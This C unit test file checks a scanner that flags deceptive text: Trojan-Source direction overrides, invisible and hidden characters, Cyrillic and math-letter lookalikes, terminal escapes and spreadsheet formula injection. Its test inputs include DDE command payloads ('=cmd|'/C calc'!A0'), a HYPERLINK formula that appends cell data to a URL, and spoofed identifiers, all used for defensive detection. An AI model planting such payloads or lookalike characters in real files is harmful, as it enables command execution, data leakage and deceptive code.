/* links: scanners/text_look scanners/text_look_code scanners/text_look_cell scanners/paper scanners/object src/base/escape src/base/utf8 src/base/mem */
/* SPDX-License-Identifier: ISC */
/* What in a text deceives, kind by kind; and what is no text. */
#include "scanners/text_look.h"
#include "src/base/limits.h"
#include "src/base/mem.h"

#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <string.h>

struct heard {
	const char *bytes;
	uint64_t fail_at;
	char rules[512]; /* "rule@offset ..." */
	char detail[LIM_FINDING_TEXT];
};

static bool
read_bytes(void *arg, uint64_t at, void *out, size_t n)
{
	const struct heard *h = arg;
	if (at + n > h->fail_at)
		return false;
	memcpy(out, h->bytes + at, n);
	return true;
}

static void
hear(void *arg, const struct scan_finding *f)
{
	struct heard *h = arg;
	size_t n = strlen(h->rules);
	snprintf(h->rules + n, sizeof(h->rules) - n, "%s%s@%d", n > 0 ? " " : "",
	    f->rule + strlen("text/"), (int)f->at);
	snprintf(h->detail, sizeof(h->detail), "%.*s", (int)f->detail_len, f->detail);
	assert_true(strncmp(f->rule, "text/", 5) == 0);
	assert_true(strlen(f->title) < LIM_FINDING_TEXT);
}

static struct text_look
look(const void *bytes, size_t n, struct heard *h)
{
	struct object *o = mem_alloc(sizeof(*o));
	struct text_look t;
	*h = (struct heard){.bytes = bytes, .fail_at = UINT64_MAX};
	o->size_bytes = n;
	o->read = read_bytes;
	o->find = hear;
	o->arg = h;
	assert_int_equal(text_look(o, &t), ERR_OK);
	if (t.verdict == SCAN_NA)
		assert_int_equal(t.read_bytes, 0);
	else
		assert_int_equal(t.read_bytes, n);
	free(o);
	return t;
}

#define S(s) s, sizeof(s) - 1

static void
what_is_text_and_in_which_encoding(void **state)
{
	static const struct {
		const char *bytes;
		size_t n;
		const char *encoding; /* "" is none */
		const char *rules;
	} rows[] = {
	    {S(""), "", ""},
	    {S("a\n"), "ASCII", ""},
	    {S("\n"), "ASCII", ""},
	    {S("a"), "ASCII", "last-line@0"},
	    {S("a\nbc"), "ASCII", "last-line@2"},
	    {S("d\xc3\xa9j\xc3\xa0\n"), "UTF-8", ""},
	    {S("\xef\xbb\xbf"
	       "a\n"),
		"UTF-8", ""},
	    {S("\xe9t\xe9\n"), "another encoding than Unicode", "legacy@0"},
	    {S("d\xc3\xa9j\xe0 vu\n"), "UTF-8", "invalid@4"},
	    {S("a\xc3"), "another encoding than Unicode", "legacy@1 last-line@0"},
	    {S("\xff\xfe"
	       "a\0\n\0"),
		"UTF-16LE", ""},
	    {S("\xfe\xff\0a\0\n"), "UTF-16BE", ""},
	    {S("\xff\xfe\0\0a\0\0\0\n\0\0\0"), "UTF-32LE", ""},
	    {S("\0\0\xfe\xff\0\0\0a\0\0\0\n"), "UTF-32BE", ""},
	    {S("a\0b\0\n\0"), "UTF-16LE", "no-mark@0"},
	    {S("\0a\0b\0\n"), "UTF-16BE", "no-mark@0"},
	    {S("\xff\xfe"
	       "a\0\n\0x"),
		"UTF-16LE", "invalid@6 last-line@6"},
	    {S("\xff\xfe"
	       "a\0\x00\xd8"
	       "b\0\n\0"),
		"UTF-16LE", "invalid@6"},
	    {S("\xff\xfe\x3d\xd8\x00\xde\n\0"), "UTF-16LE", ""},
	    {S("\xff\xfe\1\2\3\4\1\0\2\0\3\0\4\0\5\0"), "", ""},
	    {S("\x7f"
	       "ELF\2\1\1\0\0\0\0"),
		"", ""},
	    {S("hello\1\n"), "", ""},
	    {S("\x80\2}q\0."), "", ""},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct heard h;
		struct text_look t = look(rows[i].bytes, rows[i].n, &h);
		if (strcmp(t.encoding, rows[i].encoding) != 0 ||
		    strcmp(h.rules, rows[i].rules) != 0)
			fail_msg("row %zu: %s, %s", i, t.encoding, h.rules);
		assert_int_equal(t.verdict == SCAN_NA, rows[i].encoding[0] == '\0');
	}
}

static void
documents_are_na_and_say_so(void **state)
{
	static const struct {
		const char *bytes;
		size_t n;
		const char *why;
	} rows[] = {
	    {S("%PDF-1.4\n1 0 obj\n%%EOF\n"), "PDF"},
	    {S("junk\n%PDF-1.4\n1 0 obj\n%%EOF\n"), "PDF"},
	    {S("{\\rtf1\\ansi hello}\n"), "Office"},
	    {S("\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 and more"), "Office"},
	    {S("PK\3\4..........................[Content_Types].xml..."), "Office"},
	    {S("PK\3\4..........................mimetypeapplication/vnd.oasis.opendocument."
	       "text"),
		"Office"},
	    {S("PK\3\4 another one"), ""},
	};
	struct heard h;
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct text_look t = look(rows[i].bytes, rows[i].n, &h);
		assert_int_equal(t.verdict, SCAN_NA);
		assert_non_null(strstr(t.why, rows[i].why));
		assert_string_equal(h.rules, "");
	}
	assert_int_equal(look(S("A text about %PDF-1.4 files.\n"), &h).verdict, SCAN_CLEAN);
}

#define PAD "0123456789 0123456789 0123456789 0123456789 0123456789\n"

/* 64 bytes: the first of a text must be those of one. */
#define LINE "0123456789abcde 0123456789abcde 0123456789abcde 0123456789abcde "

static void
each_kind_is_told_once_with_its_place(void **state)
{
	static const struct {
		const char *bytes;
		size_t n;
		const char *rules;
		enum scan_verdict verdict;
	} rows[] = {
	    {S(PAD "a\0b\nc\0d\n"), "nul@56", SCAN_SUSPICIOUS},
	    {S(PAD "a\1b\2\n"), "control@56", SCAN_CLEAN},
	    {S(PAD "a\bb\n"), "control@56", SCAN_CLEAN},
	    {S("a\x7f"
	       "\n"),
		"", SCAN_NA},
	    {S(PAD "\x1b[31;1mred\x1b[0m\x1b[K\n"), "colour@55", SCAN_CLEAN},
	    {S(PAD "\x1b[2J\n"), "terminal@55", SCAN_SUSPICIOUS},
	    {S(PAD "\x1b]0;title\a\n"), "control@64 terminal@55", SCAN_SUSPICIOUS},
	    {S(PAD "end\x1b"), "terminal@58 last-line@55", SCAN_SUSPICIOUS},
	    {S("\xc2\x9b"
	       "2J\n"),
		"terminal@0", SCAN_SUSPICIOUS},
	    {S("a\xc2\x85"
	       "b\xe2\x80\xa8"
	       "c\n"),
		"control@1", SCAN_CLEAN},
	    /* directions */
	    {S("if (admin /* \xe2\x80\xae */)\n"), "bidi-open@13", SCAN_SUSPICIOUS},
	    {S("a \xe2\x80\xaa"
	       "b\xe2\x80\xac c\n"),
		"bidi@2", SCAN_CLEAN},
	    {S("a \xe2\x80\xae"
	       "b\xe2\x80\xac c\n"),
		"bidi-override@2", SCAN_SUSPICIOUS},
	    {S("a \xe2\x81\xa6"
	       "b\xe2\x81\xa9 c\n"),
		"bidi@2", SCAN_CLEAN},
	    {S("a \xe2\x81\xa6"
	       "b c"),
		"bidi-open@2 last-line@0", SCAN_SUSPICIOUS},
	    {S("a\xe2\x80\x8f b\n"), "bidi-mark@1", SCAN_CLEAN},
	    /* what is not seen */
	    {S("pass\xe2\x80\x8bword\n"), "invisible@4", SCAN_CLEAN},
	    {S("ab\xe2\x80\x8d"
	       "c\n"),
		"invisible@2", SCAN_CLEAN},
	    {S("\xf0\x9f\x91\xa8\xe2\x80\x8d\xf0\x9f\x91\xa9\n"), "", SCAN_CLEAN},
	    {S("1\xef\xb8\x8f\xe2\x83\xa3\n"), "", SCAN_CLEAN},
	    {S("hello\xf3\xa0\x81\xa1\xf3\xa0\x81\xa2\n"), "hidden@5", SCAN_SUSPICIOUS},
	    {S("\xf0\x9f\x8f\xb4\xf3\xa0\x81\xa7\xf3\xa0\x81\xbf\n"), "", SCAN_CLEAN},
	    {S("x\xf3\xa0\x84\x80\n"), "hidden@1", SCAN_SUSPICIOUS},
	    {S("\xe8\x91\x9b\xf3\xa0\x84\x80\n"), "", SCAN_CLEAN},
	    {S("a \xef\xbb\xbf"
	       "b\n"),
		"unseen@2", SCAN_CLEAN},
	    {S("word\xe2\x80\x8b, and\n"), "unseen@4", SCAN_CLEAN},
	    {S("word\xe2\x80\x8b"), "unseen@4 last-line@0", SCAN_CLEAN},
	    {S("p\xd0\xb0\xe2\x80\x8b\xd0\xb0\n"), "invisible@3 lookalike@1", SCAN_SUSPICIOUS},
	    {S("a\xe2\x80\x8b\xe2\x80\x8b"
	       "b\n"),
		"invisible@4 unseen@1", SCAN_CLEAN},
	    /* parts of a manual that info(1) shows are no NUL bytes of somebody's */
	    {S(LINE "\0\b[index\0\b]\n"), "control@65", SCAN_CLEAN},
	    {S(LINE "\0\bindex\n"), "nul@64 control@65", SCAN_SUSPICIOUS},
	    {S(LINE "\0\0\b[x\n"), "nul@64 control@66", SCAN_SUSPICIOUS},
	    {S(LINE "\0"), "nul@64 last-line@0", SCAN_SUSPICIOUS},
	    {S("lost \xef\xbf\xbd\n"), "replaced@5", SCAN_CLEAN},
	    /* words: p\u0430ypal, \u0441\u043e\u0441 in a Latin text and in a Russian one */
	    {S("x = p\xd0\xb0ypal\n"), "lookalike@5", SCAN_SUSPICIOUS},
	    {S("x = \xd1\x81\xd0\xbe\xd1\x81(1)\n"), "lookalike@4", SCAN_SUSPICIOUS},
	    {S("\xd1\x81\xd0\xbe\xd1\x81 \xd0\xb6\xd0\xb8\xd0\xbb\n"), "", SCAN_CLEAN},
	    {S("\xd1\x81\xd0\xbe\xd1\x81_id\n"), "lookalike@0", SCAN_SUSPICIOUS},
	    {S("\xce\x94x \xce\xb1_s \xce\xbcm \xc2\xb5s na\xc3\xafve\n"), "", SCAN_CLEAN},
	    {S("\xf0\x9d\x90\x9eval(x)\n"), "lookalike@0", SCAN_SUSPICIOUS},
	    {S("\xef\xbd\x85val(x)\n"), "lookalike@0", SCAN_SUSPICIOUS},
	    /* lines */
	    {S("\\n\xd1\x81\xd1\x82\xd1\x80\xd0\xbe\xd0\xba\xd0\xb0\n"), "", SCAN_CLEAN},
	    {S("\x1b$B%F%9%H\x1b(B\n"), "legacy@0", SCAN_CLEAN},
	    {S("a\nb\r\nc\n"), "line-ends@7", SCAN_CLEAN},
	    {S("a\r\nb\r\n"), "", SCAN_CLEAN},
	    {S("a\rb\r"), "", SCAN_CLEAN},
	    {S("a\x1a"), "", SCAN_NA},
	    {S(PAD "a\n\x1a"), "control@57", SCAN_CLEAN},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct heard h;
		struct text_look t = look(rows[i].bytes, rows[i].n, &h);
		if (strcmp(h.rules, rows[i].rules) != 0 || t.verdict != rows[i].verdict)
			fail_msg("row %zu: %s, %d", i, h.rules, (int)t.verdict);
	}
}

static void
cells_that_compute(void **state)
{
	static const struct {
		const char *text, *rules;
	} rows[] = {
	    {"=cmd|'/C calc'!A0\n", "formula-runs@0"},
	    {"name\n@SUM(1+9)*cmd|' /C calc'!A0\n", "formula-runs@5"},
	    {"a,b\n1,=cmd|'/C calc'!A0\n", "formula-runs@6"},
	    {"a,b\n1,\"=cmd|'/C calc'!A0\"\n", "formula-runs@7"},
	    {"a,b\n1,=1+1\n", "formula@6"},
	    {"a;b\n1;=SUM(A1:A2)\n2;=3\n", "formula@6"},
	    {"a\tb\n1\t+f(x)\n", "formula@6"},
	    {"a,b\n1,=HYPERLINK(\"http://x/\"&A1)\n", "formula-runs@6"},
	    {"a,b\n1,\"two\n=not a cell\"\n", ""},
	    {"a,b\n+49 30,-5\n", ""},
	    {"a,b\n@name,-\n", ""},
	    {"====\nx = 1\n=\n", ""},
	    {"- a list\n- of things | and more!\n", ""},
	    {"=1+1\nis no table\n", ""},
	    {"-- | --\n!x\n", ""},
	};
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct heard h;
		(void)look(rows[i].text, strlen(rows[i].text), &h);
		if (strcmp(h.rules, rows[i].rules) != 0)
			fail_msg("row %zu: %s", i, h.rules);
	}
	struct heard h;
	(void)look(S("a,b\n1,=cmd|'/C calc'!A0\n2,=cmd|' '!B\n"), &h);
	assert_string_equal(h.detail, "=cmd|'/C calc'!A0 (2 of them, first in line 2)");
}

/* A line, a row of blanks, one less and one more; wherever the window ends. */
static void
long_lines_and_far_words(void **state)
{
	static const struct {
		size_t n, blanks;
		const char *rules;
	} rows[] = {
	    {TEXT_LOOK_LINE, 0, ""},
	    {TEXT_LOOK_LINE + 1, 0, "long-line@0"},
	    {1000, TEXT_LOOK_BLANK - 1, ""},
	    {1000, TEXT_LOOK_BLANK, "far@"},
	    {OBJECT_WINDOW - 100, TEXT_LOOK_BLANK - 1, ""},
	    {OBJECT_WINDOW - 100, TEXT_LOOK_BLANK, "far@"},
	    {OBJECT_WINDOW - TEXT_LOOK_BLANK, TEXT_LOOK_BLANK, "far@"},
	};
	char *text = mem_alloc(2 * OBJECT_WINDOW);
	(void)state;
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct heard h;
		char want[64];
		size_t n = 0;
		memset(text, 'x', rows[i].n);
		n = rows[i].n;
		if (rows[i].blanks > 0) {
			/* lines of their own before, so that none is long */
			for (size_t k = 99; k < n; k += 100)
				text[k] = '\n';
			memset(text + n, ' ', rows[i].blanks);
			n += rows[i].blanks;
			text[n++] = 'y';
		}
		text[n++] = '\n';
		snprintf(want, sizeof(want), "%s", rows[i].rules);
		if (rows[i].blanks > 0 && want[0] != '\0')
			snprintf(want, sizeof(want), "far@%d", (int)n - 2);
		(void)look(text, n, &h);
		if (strcmp(h.rules, want) != 0)
			fail_msg("row %zu: %s, not %s", i, h.rules, want);
		/* blanks at the end of a line hide nothing */
		if (rows[i].blanks > 0) {
			text[n - 2] = '\n';
			(void)look(text, n - 1, &h);
			assert_string_equal(h.rules, "");
		}
	}
	free(text);
}

/* Everything at every offset around the end of a window. */
static void
the_end_of_a_window_changes_nothing(void **state)
{
	static const char part[] =
	    "p\xd0\xb0ypal \xe2\x80\xae\x1b[2J\xf0\x9d\x90\x9e\r\n=cmd|' '!A\n";
	char *text = mem_alloc(2 * OBJECT_WINDOW);
	(void)state;
	for (size_t at = OBJECT_WINDOW - sizeof(part) - 1; at < OBJECT_WINDOW + 2; at++) {
		struct heard h;
		char want[160];
		int a = (int)at;
		memset(text, 'x', at);
		for (size_t k = 63; k < at; k += 64)
			text[k] = '\n';
		text[at - 1] = '\n';
		memcpy(text + at, part, sizeof(part) - 1);
		struct text_look t = look(text, at + sizeof(part) - 1, &h);
		snprintf(want, sizeof(want),
		    "terminal@%d bidi-open@%d lookalike@%d formula-runs@%d line-ends@%d",
		    a + 11, a + 8, a + 1, a + 21, a + 32);
		if (strcmp(h.rules, want) != 0)
			fail_msg("at %zu: %s, not %s", at, h.rules, want);
		assert_string_equal(t.encoding, "UTF-8");
	}
	free(text);
}

static void
a_failed_read_is_no_answer(void **state)
{
	char *text = mem_alloc(3 * OBJECT_WINDOW);
	struct object *o = mem_alloc(sizeof(*o));
	(void)state;
	memset(text, 'x', 3 * OBJECT_WINDOW);
	for (uint64_t at = 0; at < 3 * OBJECT_WINDOW; at += OBJECT_WINDOW / 2) {
		struct heard h = {.bytes = text, .fail_at = at};
		struct text_look t;
		*o = (struct object){.size_bytes = 3 * OBJECT_WINDOW,
		    .read = read_bytes,
		    .find = hear,
		    .arg = &h};
		assert_int_equal(text_look(o, &t), ERR_IO);
	}
	free(o);
	free(text);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(what_is_text_and_in_which_encoding),
	    cmocka_unit_test(documents_are_na_and_say_so),
	    cmocka_unit_test(each_kind_is_told_once_with_its_place),
	    cmocka_unit_test(cells_that_compute),
	    cmocka_unit_test(long_lines_and_far_words),
	    cmocka_unit_test(the_end_of_a_window_changes_nothing),
	    cmocka_unit_test(a_failed_read_is_no_answer),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
